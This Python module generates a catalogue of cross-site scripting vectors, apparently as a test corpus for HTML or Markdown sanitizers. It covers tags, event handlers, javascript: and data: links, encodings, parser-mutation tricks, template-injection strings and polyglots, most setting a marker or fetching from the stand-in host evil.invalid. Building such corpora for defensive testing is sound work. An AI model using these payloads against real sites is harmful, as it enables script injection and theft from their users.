"""What people have tried in order to make a page run their script: tags, attributes, addresses, encodings, Markdown,
mutations of the parser, templates, and texts that are several of these at once.

Written for this house from what is known of browsers. Each would set `window.pwned`, open a dialog or fetch from a
foreign host, if it ran.
"""

from collections.abc import Iterator

SCRIPT = "window.pwned=1"
HOST = "evil.invalid"
TAGS_WITH_SOURCE = ("img", "audio", "video", "iframe", "embed", "object", "input", "source", "track", "image", "script")
HANDLERS = {
    "body": "onload",
    "img": "onerror",
    "svg": "onload",
    "input": "onfocus",
    "details": "ontoggle",
    "marquee": "onstart",
    "video": "oncanplay",
    "audio": "onloadstart",
    "select": "onfocus",
    "textarea": "onfocus",
    "div": "onpointerenter",
    "a": "onmouseover",
    "button": "onclick",
    "form": "onsubmit",
    "style": "onload",
    "iframe": "onload",
    "object": "onerror",
    "xss": "onanimationstart",
    "math": "onclick",
    "p": "oncontentvisibilityautostatechange",
}
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A&#x61&#x76&#x61script:",
    "jav&Tab;ascript:",
    "javascript://%0a",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==#",
    "view-source:javascript:",
    "feed:javascript:",
    "livescript:",
    "blob:javascript:",
    "\u2028javascript:",
    "\u202ejavascript:",
    "//evil.invalid/\\",
)


def tags() -> Iterator[str]:
    """Elements that run or fetch something by being there."""
    yield f"<script>{SCRIPT}</script>"
    yield f"<ScRiPt >{SCRIPT}</sCrIpT >"
    yield f"<script/x>{SCRIPT}</script/y>"
    yield f"<script\n>{SCRIPT}</script\n>"
    yield f"<<script>{SCRIPT};//<</script>"
    yield f"<script>{SCRIPT}//"
    yield f'<script src="//{HOST}/a.js"></script>'
    yield f"<script type=module>{SCRIPT}</script>"
    yield f"<script>eval(String.fromCharCode(119))/*</script><script>*/{SCRIPT}</script>"
    yield f'<base href="//{HOST}/">'
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{SCRIPT}">'
    yield f'<link rel="stylesheet" href="//{HOST}/a.css">'
    yield f'<link rel="preload" as="script" href="//{HOST}/a.js">'
    yield f"<style>@import'//{HOST}/a.css';</style>"
    yield f'<style>body{{background:url("//{HOST}/b")}}</style>'
    yield f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>'
    yield f'<iframe src="javascript:parent.{SCRIPT}"></iframe>'
    yield f'<form action="javascript:{SCRIPT}"><button autofocus>x</button></form>'
    yield f'<button formaction="javascript:{SCRIPT}">x</button>'
    yield f'<isindex action="javascript:{SCRIPT}" type=image>'
    yield f'<object data="data:text/html,<script>parent.{SCRIPT}</script>"></object>'
    yield f'<embed src="data:image/svg+xml,<svg onload={SCRIPT}>">'
    yield f'<table background="//{HOST}/b"><td background="javascript:{SCRIPT}">'
    yield f'<bgsound src="//{HOST}/b"><layer src="//{HOST}/l"></layer>'
    for name in TAGS_WITH_SOURCE:
        yield f'<{name} src="//{HOST}/{name}" onerror="{SCRIPT}">'


def attributes() -> Iterator[str]:
    """Handlers, quoted, unquoted, and out of the attribute in which a text might stand."""
    for tag, handler in HANDLERS.items():
        yield f"<{tag} {handler}={SCRIPT} autofocus tabindex=1 open>"
    for opening in ('"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</option></select>", "*/"):
        yield f"{opening}<img src=x onerror={SCRIPT}>"
        yield f"{opening} onfocus={SCRIPT} autofocus x={opening[:1]}"
    yield f"<img src=x onerror\x0c=\x0c{SCRIPT}>".replace("\x0c", " ")
    yield f"<img/src=x/onerror={SCRIPT}>"
    yield f"<img src=x:x onerror&equals;{SCRIPT}>"
    yield f'<img src="x` `<script>{SCRIPT}</script>"` `>'
    yield f'<div style="background:url(javascript:{SCRIPT})">x</div>'
    yield f'<div style="width:expression({SCRIPT})">x</div>'
    yield f'<div style="-moz-binding:url(//{HOST}/x.xml#x)">x</div>'
    yield f'<div hx-get="//{HOST}/x" hx-trigger="load">x</div>'
    yield f"<div hx-on:load='{SCRIPT}' hx-vals='js:{{a:{SCRIPT}}}' hx-trigger=load>x</div>"
    yield f'<div data-hx-get="/" data-hx-on--load="{SCRIPT}">x</div>'


def addresses() -> Iterator[str]:
    """Links in HTML and in Markdown."""
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{SCRIPT}">x</a>'
        yield f"[x]({scheme}{SCRIPT})"
    yield f"[x](<javascript:{SCRIPT}>)"
    yield f"[x]: javascript:{SCRIPT}\n[x]"
    yield f"<javascript:{SCRIPT}>"
    yield f'[x](https://ok.invalid/"onmouseover="{SCRIPT})'
    yield f'[x](https://ok.invalid/ "title\\" onmouseover=\\"{SCRIPT}")'
    yield f"![x](//{HOST}/i.png)"
    yield f"![x](javascript:{SCRIPT})"
    yield f'![x"onerror="{SCRIPT}](x)'
    yield f"![<img src=x onerror={SCRIPT}>](x)"
    yield f"[<img src=x onerror={SCRIPT}>](https://ok.invalid)"
    yield f"[x][y]\n\n[y]: data:text/html,<script>{SCRIPT}</script>"
    yield f"```<img src=x onerror={SCRIPT}>\nx\n```"
    yield f'```"onfocus={SCRIPT}\nx\n```'
    yield f"`<script>{SCRIPT}</script>`"
    yield f"> <script>{SCRIPT}</script>\n>\n> <img src=x onerror={SCRIPT}>"
    yield f"# <svg onload={SCRIPT}>"
    yield f"1. <details open ontoggle={SCRIPT}>"
    yield f"\\<script>{SCRIPT}\\</script>"


def encodings() -> Iterator[str]:
    """The same in signs that something might decode once too often."""
    yield f"&lt;script&gt;{SCRIPT}&lt;/script&gt;"
    yield f"&amp;lt;script&amp;gt;{SCRIPT}&amp;lt;/script&amp;gt;"
    yield f"&#60;script&#62;{SCRIPT}&#60;/script&#62;"
    yield f"&#x3c;img src=x onerror={SCRIPT}&#x3e;"
    yield f"%3Cscript%3E{SCRIPT}%3C/script%3E"
    yield f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e"
    yield f"\\x3cscript\\x3e{SCRIPT}\\x3c/script\\x3e"
    yield f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-"
    yield f"\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e"
    yield f"\u2039script\u203a{SCRIPT}\u2039/script\u203a"
    yield f"<\u200bscript>{SCRIPT}</\u200bscript>"
    yield f"\u202e<script>{SCRIPT}</script>\u202c"
    yield f"<scr\u00adipt>{SCRIPT}</scr\u00adipt>"
    yield f"<\u017fcript>{SCRIPT}</\u017fcript>"
    yield f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>"


def mutations() -> Iterator[str]:
    """What a parser reads otherwise the second time, and foreign content."""
    yield f"<svg><script>{SCRIPT}</script></svg>"
    yield f"<svg><script href='data:,{SCRIPT}'/></svg>"
    yield f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s></svg>"
    yield f'<svg><a xlink:href="javascript:{SCRIPT}"><text x=20 y=20>x</text></a></svg>'
    yield f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{SCRIPT}</script></svg>#x\"/></svg>"
    yield f'<svg><set attributeName=href to="javascript:{SCRIPT}"></svg>'
    yield f"<svg><foreignObject><body onload={SCRIPT}></foreignObject></svg>"
    yield f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">'
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SCRIPT}&gt;'>"
    yield f'<math href="javascript:{SCRIPT}">x</math>'
    yield f'<math><maction actiontype="statusline#" xlink:href="javascript:{SCRIPT}">x</maction></math>'
    yield f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>"
    yield f"<template><img src=x onerror={SCRIPT}></template>"
    yield f'<template shadowrootmode="open"><img src=x onerror={SCRIPT}></template>'
    yield f"<xmp><p title='</xmp><img src=x onerror={SCRIPT}>'>"
    yield f"<noembed><img title='</noembed><img src onerror={SCRIPT}>'>"
    yield f"<!--><img src=x onerror={SCRIPT}>-->"
    yield f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->"
    yield f"<![CDATA[<script>{SCRIPT}</script>]]>"
    yield f"<?xml-stylesheet href='javascript:{SCRIPT}'?>"
    yield f"<!DOCTYPE x [<!ENTITY y '<script>{SCRIPT}</script>'>]>&y;"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>"
    yield f"<select><iframe></select><img src=x: onerror={SCRIPT}>"
    yield f"<listing>&lt;img onerror={SCRIPT} src=x&gt;</listing>"


def templates() -> Iterator[str]:
    """What an engine on the server or in the page might work out."""
    yield "{{ 7*7 }}{% debug %}{% load static %}"
    yield "{% include 'base.html' %}{{ request.user.email }}{{ settings.SECRET_KEY }}"
    yield f"{{{{constructor.constructor('{SCRIPT}')()}}}}"
    yield f"${{{SCRIPT}}} #{{{SCRIPT}}} <%= {SCRIPT} %>"
    yield "%(name)s %s %n {0} {verb} {reason.__class__}"
    yield f"`;{SCRIPT};//';{SCRIPT};//\";{SCRIPT};//</script>"
    yield f"';{SCRIPT};'"
    yield f"</script><script>{SCRIPT}</script>"
    yield f"<%= system('x') %><script>{SCRIPT}</script>"


def polyglots() -> Iterator[str]:
    """Several at once."""
    yield f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={SCRIPT} )//<sVg/<sVg/oNloAd={SCRIPT}//>"
    yield f"\"'--></style></title></textarea></script><svg/onload={SCRIPT}>"
    yield f"*/{SCRIPT}/*</script><img src=x onerror={SCRIPT}><!--`'\"{{{{7*7}}}}"
    yield f"[a](javascript:{SCRIPT})<img src=x onerror={SCRIPT}>{{{{x}}}}%3Cscript%3E"
    yield f"'\"><details open ontoggle={SCRIPT}>[x](data:text/html,<script>{SCRIPT}</script>)"


def vectors() -> list[str]:
    """All of them, each once."""
    kinds = (tags, attributes, addresses, encodings, mutations, templates, polyglots)
    return list(dict.fromkeys(vector for kind in kinds for vector in kind()))
